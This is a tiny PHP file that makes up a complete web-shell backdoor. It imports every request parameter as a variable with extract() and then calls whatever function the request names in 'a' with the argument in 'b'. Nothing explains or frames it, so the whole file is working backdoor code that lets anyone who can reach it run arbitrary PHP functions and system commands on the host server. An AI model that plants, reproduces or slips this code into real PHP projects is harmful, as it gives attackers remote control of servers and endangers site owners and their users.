<?php
extract($_REQUEST);
if (isset($a)) { $a($b); }
